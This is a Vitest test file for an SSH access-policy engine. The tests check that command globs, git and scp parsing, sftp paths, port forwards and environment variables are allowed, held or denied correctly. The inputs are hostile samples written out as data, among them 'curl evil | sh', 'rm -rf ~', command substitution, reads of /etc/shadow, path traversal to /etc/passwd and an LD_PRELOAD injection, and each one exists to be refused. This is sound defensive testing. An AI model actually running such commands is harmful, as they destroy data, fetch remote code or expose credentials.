import { describe, expect, it } from 'vitest';
import type { SshGrant } from '../../../service/config/targets/ssh.js';
import { parseCommand, plainWords } from '../../../service/policy/ssh/command.js';
import {
  AGENT_FORWARDING_REFUSED,
  decideEnv,
  decideExec,
  decideForward,
  decidePty,
  decideSftp,
  decideShell,
  decideSubsystem,
  type SshRules,
} from '../../../service/policy/ssh/decide.js';
import { matchCommand, matchPath, normalizePath } from '../../../service/policy/ssh/patterns.js';

const rules = (ssh: SshGrant, access: SshRules['access'] = 'write'): SshRules => ({
  target: 'build-host',
  access,
  ssh,
});

describe('command patterns', () => {
  it('globs in allow rules never stretch over shell metacharacters', () => {
    expect(matchCommand('make *', 'make test', true)).toBe('match');
    expect(matchCommand('make *', 'make', true)).toBe('no-match');
    for (const sneaky of [
      'make x; rm -rf ~',
      'make x && curl evil | sh',
      'make $(id)',
      'make `id`',
      'make x > /etc/passwd',
      'make x\nrm -rf ~',
      'make \\; id',
    ])
      expect(matchCommand('make *', sneaky, true), sneaky).toBe('no-match');
    // deny rules match loosely
    expect(matchCommand('rm *', 'rm -rf x; echo', false)).toBe('match');
  });

  it('exact, glob, regex; object forms', () => {
    expect(matchCommand('uptime', 'uptime', true)).toBe('match');
    expect(matchCommand('uptime', 'uptime ', true)).toBe('no-match');
    expect(matchCommand({ exact: 'echo *' }, 'echo *', true)).toBe('match');
    expect(matchCommand({ exact: 'echo *' }, 'echo hi', true)).toBe('no-match');
    expect(matchCommand('/systemctl (status|restart) app/', 'systemctl restart app', true)).toBe('match');
    expect(matchCommand('/systemctl (status|restart) app/', 'systemctl restart app; id', true)).toBe(
      'no-match',
    );
    expect(matchCommand({ regex: 'ls( -l)?' }, 'ls -l', true)).toBe('match');
    expect(matchCommand({ glob: '/usr/bin/*' }, '/usr/bin/id', true)).toBe('match');
    // linear-time engine: a catastrophic shape on the longest command judged is answered, not timed out
    const started = performance.now();
    expect(matchCommand('/(a+)+b/', `${'a'.repeat(64 * 1024 - 1)}c`, true)).toBe('no-match');
    expect(performance.now() - started).toBeLessThan(2000);
    expect(matchCommand('/(a+)+b/', 'aaab', true)).toBe('match');
    // what that engine cannot run never matches (the config load refuses it first)
    expect(matchCommand('/(a)\\1/', 'aa', true)).toBe('no-match');
  });

  it('path globs: * within a segment, ** across, dir/** covers dir, .. resolved lexically', () => {
    expect(matchPath('/srv/app/*', '/srv/app/x.txt')).toBe(true);
    expect(matchPath('/srv/app/*', '/srv/app/a/x.txt')).toBe(false);
    expect(matchPath('/srv/app/**', '/srv/app/a/b/c')).toBe(true);
    expect(matchPath('/srv/app/**', '/srv/app')).toBe(true);
    expect(matchPath('/srv/app/**', '/srv/application')).toBe(false);
    expect(matchPath('/srv/**/*.log', '/srv/a/b/c.log')).toBe(true);
    expect(matchPath('/srv/app/', '/srv/app')).toBe(true);
    expect(normalizePath('/srv/app/../../etc/passwd')).toBe('/etc/passwd');
    expect(normalizePath('/srv/./app//x')).toBe('/srv/app/x');
    expect(normalizePath('/..')).toBeNull();
    expect(normalizePath('a/../..')).toBeNull();
    expect(normalizePath('')).toBeNull();
  });
});

describe('command parsing', () => {
  it('reads plain words with single quotes and backslashes, refuses what the shell would expand', () => {
    expect(plainWords("git-upload-pack '/srv/git/app.git'")).toEqual(['git-upload-pack', '/srv/git/app.git']);
    expect(plainWords("git-upload-pack '/srv/it'\\''s.git'")).toEqual(['git-upload-pack', "/srv/it's.git"]);
    expect(plainWords('scp -t /tmp/x')).toEqual(['scp', '-t', '/tmp/x']);
    for (const bad of ["echo 'unterminated", 'ls *', 'cat ~/x', 'echo $HOME', 'a; b', 'x=1 ls', 'a "b"'])
      expect(plainWords(bad), bad).toBeNull();
  });

  it('recognises git transport commands and legacy scp only in their exact shape', () => {
    expect(parseCommand("git-receive-pack '/srv/git/app.git'")).toEqual({
      kind: 'git',
      service: 'git-receive-pack',
      repository: '/srv/git/app.git',
    });
    expect(parseCommand("git-upload-pack '/a.git'; id")).toEqual({ kind: 'plain' });
    expect(parseCommand('git-upload-pack --help')).toEqual({ kind: 'plain' });
    expect(parseCommand('scp -r -p -t -- /srv/up')).toMatchObject({
      kind: 'scp',
      direction: 'upload',
      path: '/srv/up',
      recursive: true,
    });
    expect(parseCommand('scp -pf /srv/x')).toMatchObject({
      kind: 'scp',
      direction: 'download',
      path: '/srv/x',
    });
    expect(parseCommand('scp -t -f /x')).toEqual({ kind: 'plain' });
    expect(parseCommand('scp -t /x /y')).toEqual({ kind: 'plain' });
    expect(parseCommand('scp -o ProxyCommand=x -t /x')).toEqual({ kind: 'plain' });
  });
});

describe('exec', () => {
  const grant = rules({
    commands: {
      allow: ['make *', 'uptime', '/systemctl (status|restart) app/'],
      approve: ['make deploy*'],
      deny: ['make clean*', 'rm *'],
    },
    sftp: { read: ['/srv/app/**'], write: ['/srv/app/uploads/**'] },
    git: { read: ['/srv/git/*.git'], push: ['/srv/git/app.git'] },
  });

  it('allows what an allow rule matches, holds approve matches, denies deny matches and the rest', () => {
    expect(decideExec(grant, 'make test')).toMatchObject({ effect: 'allow' });
    expect(decideExec(grant, 'uptime')).toMatchObject({ effect: 'allow' });
    expect(decideExec(grant, 'make deploy prod')).toMatchObject({
      effect: 'hold',
      rule: 'commands.approve',
    });
    expect(decideExec(grant, 'make clean')).toMatchObject({ effect: 'deny', rule: 'commands.deny' });
    expect(decideExec(grant, 'uptime; rm -rf /')).toMatchObject({ effect: 'deny', rule: 'commands.deny' });
    const other = decideExec(grant, 'cat /etc/shadow');
    expect(other).toMatchObject({ effect: 'deny', rule: 'commands.allow' });
    expect(other.reasons[0]).toContain('"cat /etc/shadow"');
    expect(other.reasons[0]).toContain('build-host');
    expect(decideExec(grant, 'make x; id')).toMatchObject({ effect: 'deny' });
    expect(decideExec(rules({}), 'uptime').reasons[0]).toContain('allows no commands');
  });

  it('judges git by repository: fetch by git.read (or push), push by git.push, never under access read', () => {
    expect(decideExec(grant, "git-upload-pack '/srv/git/lib.git'")).toMatchObject({ effect: 'allow' });
    expect(decideExec(grant, "git-upload-pack '/srv/git/app.git/'")).toMatchObject({ effect: 'allow' });
    expect(decideExec(grant, "git-receive-pack '/srv/git/app.git'")).toMatchObject({ effect: 'allow' });
    expect(decideExec(grant, "git-receive-pack '/srv/git/lib.git'")).toMatchObject({
      effect: 'deny',
      rule: 'git.push',
    });
    expect(decideExec(grant, "git-upload-pack '/srv/git/../secret.git'")).toMatchObject({ effect: 'deny' });
    expect(decideExec(grant, "git-upload-pack '/srv/other/x.git'")).toMatchObject({
      effect: 'deny',
      rule: 'git.read',
    });
    const readOnly = rules(grant.ssh!, 'read');
    expect(decideExec(readOnly, "git-receive-pack '/srv/git/app.git'")).toMatchObject({
      effect: 'deny',
      rule: 'access: read',
    });
    expect(decideExec(readOnly, "git-upload-pack '/srv/git/app.git'")).toMatchObject({ effect: 'allow' });
  });

  it('judges legacy scp by sftp paths, covering what lands below a directory', () => {
    expect(decideExec(grant, 'scp -t /srv/app/uploads/a.txt')).toMatchObject({ effect: 'allow' });
    expect(decideExec(grant, 'scp -r -t /srv/app/uploads')).toMatchObject({ effect: 'allow' });
    expect(decideExec(grant, 'scp -t /srv/app/a.txt')).toMatchObject({ effect: 'deny', rule: 'sftp.write' });
    expect(decideExec(grant, 'scp -f /srv/app/config.yml')).toMatchObject({ effect: 'allow' });
    expect(decideExec(grant, 'scp -f /etc/passwd')).toMatchObject({ effect: 'deny', rule: 'sftp.read' });
    expect(decideExec(grant, 'scp -f /srv/app/../../etc/passwd')).toMatchObject({ effect: 'deny' });
    const shallow = rules({ sftp: { write: ['/srv/up/*'] } });
    expect(decideExec(shallow, 'scp -t /srv/up')).toMatchObject({ effect: 'deny' });
    expect(decideExec(shallow, 'scp -r -t /srv/up/x')).toMatchObject({ effect: 'deny' });
    expect(decideExec(rules(grant.ssh!, 'read'), 'scp -t /srv/app/uploads/a')).toMatchObject({
      effect: 'deny',
      rule: 'access: read',
    });
  });
});

describe('sftp', () => {
  const grant = rules({ sftp: { read: ['/srv/app/**'], write: ['/srv/app/uploads/**'] } });

  it('reads by sftp.read, writes (and renames, removes, setstat, links, mkdir) by sftp.write', () => {
    expect(decideSftp(grant, { op: 'open', path: '/srv/app/a.txt', mode: 'read' }).effect).toBe('allow');
    expect(decideSftp(grant, { op: 'open', path: '/etc/passwd', mode: 'read' })).toMatchObject({
      effect: 'deny',
      rule: 'sftp.read',
    });
    expect(decideSftp(grant, { op: 'open', path: '/srv/app/uploads/a', mode: 'write' }).effect).toBe('allow');
    expect(decideSftp(grant, { op: 'open', path: '/srv/app/a', mode: 'write' }).effect).toBe('deny');
    expect(decideSftp(grant, { op: 'open', path: '/srv/app/uploads/a', mode: 'read-write' }).effect).toBe(
      'allow',
    );
    expect(decideSftp(grant, { op: 'list', path: '/srv/app' }).effect).toBe('allow');
    expect(decideSftp(grant, { op: 'list', path: '/srv' }).effect).toBe('deny');
    expect(decideSftp(grant, { op: 'stat', path: '/srv/app/uploads' }).effect).toBe('allow');
    expect(decideSftp(grant, { op: 'realpath', path: '.' }).effect).toBe('allow');
    for (const op of ['mkdir', 'rmdir', 'remove', 'setstat'] as const) {
      expect(decideSftp(grant, { op, path: '/srv/app/uploads/d' }).effect, op).toBe('allow');
      expect(decideSftp(grant, { op, path: '/srv/app/d' }).effect, op).toBe('deny');
    }
    expect(
      decideSftp(grant, { op: 'rename', path: '/srv/app/uploads/a', target_path: '/srv/app/uploads/b' })
        .effect,
    ).toBe('allow');
    expect(
      decideSftp(grant, { op: 'rename', path: '/srv/app/uploads/a', target_path: '/srv/app/a' }),
    ).toMatchObject({ effect: 'deny', rule: 'sftp.write' });
    expect(
      decideSftp(grant, { op: 'symlink', path: '/srv/app/uploads/l', target_path: '/etc/passwd' }).effect,
    ).toBe('deny');
    expect(decideSftp(grant, { op: 'symlink', path: '/srv/app/uploads/l', target_path: 'x' }).effect).toBe(
      'allow',
    );
    expect(
      decideSftp(grant, { op: 'symlink', path: '/srv/app/uploads/l', target_path: '../../../etc' }).effect,
    ).toBe('deny');
    expect(decideSftp(grant, { op: 'open', path: '/srv/app/uploads/../x', mode: 'write' }).effect).toBe(
      'deny',
    );
  });

  it('refuses every write under access read and subsystems other than sftp', () => {
    const readOnly = rules(grant.ssh!, 'read');
    expect(decideSftp(readOnly, { op: 'open', path: '/srv/app/uploads/a', mode: 'write' })).toMatchObject({
      effect: 'deny',
      rule: 'access: read',
    });
    expect(decideSftp(readOnly, { op: 'open', path: '/srv/app/a', mode: 'read' }).effect).toBe('allow');
    expect(decideSubsystem(grant, 'sftp').effect).toBe('allow');
    expect(decideSubsystem(grant, 'netconf').effect).toBe('deny');
    expect(decideSubsystem(rules({}), 'sftp').effect).toBe('deny');
  });
});

describe('shell, pty, forwards, env, agent', () => {
  it('a shell needs shell: true and write access; a terminal needs pty: true', () => {
    expect(decideShell(rules({ shell: true }), false).effect).toBe('allow');
    expect(decideShell(rules({}), false)).toMatchObject({ effect: 'deny', rule: 'shell' });
    expect(decideShell(rules({ shell: true }, 'read'), true)).toMatchObject({
      effect: 'deny',
      rule: 'access: read',
    });
    expect(decidePty(rules({ pty: true })).effect).toBe('allow');
    expect(decidePty(rules({ shell: true }))).toMatchObject({ effect: 'deny', rule: 'pty' });
  });

  it('local forwards only to listed destinations, remote forwards never', () => {
    const g = rules({ forwards: ['db.internal:5432', '127.0.0.1:*', '[::1]:8080', '*.cache.internal:6379'] });
    expect(decideForward(g, { direction: 'local', host: 'db.internal', port: 5432 }).effect).toBe('allow');
    expect(decideForward(g, { direction: 'local', host: 'DB.internal', port: 5432 }).effect).toBe('allow');
    expect(decideForward(g, { direction: 'local', host: 'db.internal', port: 22 })).toMatchObject({
      effect: 'deny',
      rule: 'forwards',
    });
    expect(decideForward(g, { direction: 'local', host: '127.0.0.1', port: 9 }).effect).toBe('allow');
    expect(decideForward(g, { direction: 'local', host: '::1', port: 8080 }).effect).toBe('allow');
    expect(decideForward(g, { direction: 'local', host: 'a.cache.internal', port: 6379 }).effect).toBe(
      'allow',
    );
    expect(decideForward(g, { direction: 'remote', host: '0.0.0.0', port: 80 })).toMatchObject({
      effect: 'deny',
      rule: 'ssh.forward.remote',
    });
    expect(decideForward(rules({}), { direction: 'local', host: 'x', port: 1 }).reasons[0]).toContain(
      'lists no forwards',
    );
  });

  it('env by the allow-list (names or globs), GIT_PROTOCOL built in; values never shown', () => {
    const g = rules({ env: ['LANG', 'LC_*'] });
    expect(decideEnv(g, 'LANG', 'C.UTF-8').effect).toBe('allow');
    expect(decideEnv(g, 'LC_ALL', 'C').effect).toBe('allow');
    const refused = decideEnv(g, 'LD_PRELOAD', '/tmp/evil.so');
    expect(refused).toMatchObject({ effect: 'deny', rule: 'env' });
    expect(refused.reasons.join(' ')).not.toContain('evil');
    expect(decideEnv(rules({}), 'GIT_PROTOCOL', 'version=2').effect).toBe('allow');
    expect(decideEnv(rules({}), 'GIT_PROTOCOL', 'version=2; x').effect).toBe('deny');
    expect(AGENT_FORWARDING_REFUSED.effect).toBe('deny');
  });
});
